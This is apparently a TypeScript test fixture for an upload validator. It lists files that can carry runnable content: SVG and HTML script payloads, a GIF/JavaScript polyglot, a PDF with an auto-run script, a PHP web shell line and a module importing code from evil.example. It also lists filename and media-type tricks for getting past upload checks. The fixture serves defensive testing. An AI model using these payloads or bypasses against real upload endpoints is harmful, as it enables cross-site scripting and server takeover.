import { deflateRawSync, gzipSync } from 'node:zlib';

/** Something that a browser, or a program that opens it, could run. */
export interface ActiveContent {
  readonly is: string;
  readonly bytes: Buffer;
  /** The extension and the media type that it goes by. */
  readonly ext: string;
  readonly type: string;
  /** The one media type that it has to be taken for, whatever it is called. */
  readonly mime: string;
}

function content(is: string, ext: string, type: string, text: string | Buffer, mime = type): ActiveContent {
  return { is, bytes: Buffer.from(text), ext, type, mime };
}

const svg = 'http://www.w3.org/2000/svg';
const xhtml = 'http://www.w3.org/1999/xhtml';
const binaryGif = Buffer.concat([
  Buffer.from('GIF89a/*\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1'),
  Buffer.from('*/=1;alert(document.domain)//'),
]);
const pdf = `%PDF-1.7
%âãÏÓ
1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
const mail = `From: <Saved by a browser>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="x"; type="text/html"

--x
Content-Type: text/html

<script>alert(1)</script>
--x--
`;

/** The one extension that each of their media types is stored with. */
export const storedExtensions: ReadonlyMap<string, string> = new Map([
  ['image/svg+xml', '.svg'],
  ['text/html', '.html'],
  ['application/xhtml+xml', '.xhtml'],
  ['application/xml', '.xml'],
  ['message/rfc822', '.mht'],
  ['text/javascript', '.js'],
  ['text/plain', '.txt'],
  ['application/pdf', '.pdf'],
  ['image/gif', '.gif'],
  ['application/zip', '.zip'],
  ['application/gzip', '.gz'],
  ['application/octet-stream', '.bin'],
]);

/** Those of them that are taken where nothing is configured, because as what they are served as they cannot run. */
export const usuallyTaken: ReadonlySet<string> = new Set([
  'application/pdf',
  'image/gif',
  'text/plain',
  'application/zip',
]);

/** What tests send under every name, and what it has to be taken for. */
export const activeContents: readonly ActiveContent[] = [
  content('an SVG image with an event', '.svg', 'image/svg+xml', `<svg xmlns="${svg}" onload="alert(1)"/>`),
  content(
    'an SVG image with a script',
    '.svg',
    'image/svg+xml',
    `<?xml version="1.0"?><svg xmlns="${svg}"><script>alert(1)</script></svg>`,
  ),
  content(
    'an SVG image with a page',
    '.svg',
    'image/svg+xml',
    `<!-- a --><svg xmlns="${svg}"><foreignObject><iframe xmlns="${xhtml}" src="javascript:alert(1)"/></foreignObject></svg>`,
  ),
  content(
    'an SVG image in UTF-16',
    '.svg',
    'image/svg+xml',
    Buffer.from(`\ufeff<svg xmlns="${svg}" onload="alert(1)"/>`, 'utf16le'),
  ),
  content(
    'an SVG image that is packed',
    '.svgz',
    'image/svg+xml',
    gzipSync(`<svg xmlns="${svg}" onload="alert(1)"/>`),
    'application/gzip',
  ),
  content('a page', '.html', 'text/html', '<!doctype html><title>a</title><script>alert(1)</script>'),
  content('a page without a beginning', '.htm', 'text/html', '<img src=x onerror=alert(1)>'),
  content('a page behind much white space', '.html', 'text/html', `${' \n'.repeat(500)}<script>alert(1)</script>`),
  content(
    'a page behind more of it than is looked at',
    '.html',
    'text/html',
    `${' \n'.repeat(5_000)}<script>alert(1)</script>`,
    'text/plain',
  ),
  content('a page behind a word', '.html', 'text/html', 'x<script>alert(1)</script>', 'text/plain'),
  content(
    'a page in UTF-16 that does not say so',
    '.html',
    'text/html',
    Buffer.from('<script>alert(1)</script>', 'utf16le'),
    'application/octet-stream',
  ),
  content('a page in UTF-7', '.html', 'text/html', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'text/plain'),
  content(
    'XHTML',
    '.xhtml',
    'application/xhtml+xml',
    `<?xml version="1.0"?><html xmlns="${xhtml}"><script>alert(1)</script></html>`,
  ),
  content(
    'XML with a part that is XHTML',
    '.xml',
    'application/xml',
    `<a><script xmlns="${xhtml}">alert(1)</script></a>`,
    'application/xhtml+xml',
  ),
  content(
    'XML with a style sheet',
    '.xml',
    'application/xml',
    '<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><a/>',
  ),
  content(
    'XSL',
    '.xsl',
    'text/xsl',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    'application/xml',
  ),
  content('a page saved as a mail', '.mhtml', 'message/rfc822', mail),
  content('a paper with a script', '.pdf', 'application/pdf', pdf),
  content('a script', '.js', 'text/javascript', 'alert(document.domain)'),
  content(
    'a module',
    '.mjs',
    'application/javascript',
    'import x from "https://evil.example/x.js";\nx();\n',
    'text/javascript',
  ),
  content('a script that is an image', '.gif', 'image/gif', binaryGif),
  content('a script that calls itself an image', '.gif', 'image/gif', 'GIF89a=1;alert(document.domain)', 'text/plain'),
  content('a program of a server', '.php', 'application/x-httpd-php', '<?php system($_GET["x"]); ?>', 'text/plain'),
  content('rules of a server', '.htaccess', 'text/plain', 'AddType text/html .png\n', 'text/plain'),
  content(
    'an archive with a page',
    '.jar',
    'application/java-archive',
    archive('a.html', '<script>alert(1)</script>'),
    'application/zip',
  ),
];

/** A ZIP archive with one file in it. */
export function archive(name: string, text: string | Buffer): Buffer {
  const packed = deflateRawSync(text);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(Buffer.byteLength(text), 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), packed, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
}

/** A way to send something under a name and a declared type. */
export interface Spelling {
  readonly is: string;
  name(content: ActiveContent): string;
  type(content: ActiveContent): string;
}

function spelling(is: string, name: (ext: string) => string, type?: string): Spelling {
  return { is, name: ({ ext }) => name(ext), type: (sent) => type ?? sent.type };
}

/** Ways around a check of names or declared types. */
export const spellings: readonly Spelling[] = [
  spelling('under its own name', (ext) => `a${ext}`),
  spelling('as a .png', () => 'a.png'),
  spelling('without a name', () => ''),
  spelling('declared as something else', (ext) => `a${ext}`, 'image/png'),
  spelling('declared with a parameter', (ext) => `a${ext}`, 'image/png;charset=x'),
  spelling('with a dot behind it', (ext) => `a${ext}.`, 'image/png'),
  spelling('with a space behind it', (ext) => `a${ext} `, 'image/png'),
  spelling('with two extensions', (ext) => `a${ext}.png`, 'image/png'),
  spelling('in capitals', (ext) => `A${ext.toUpperCase()}`, 'IMAGE/PNG'),
];
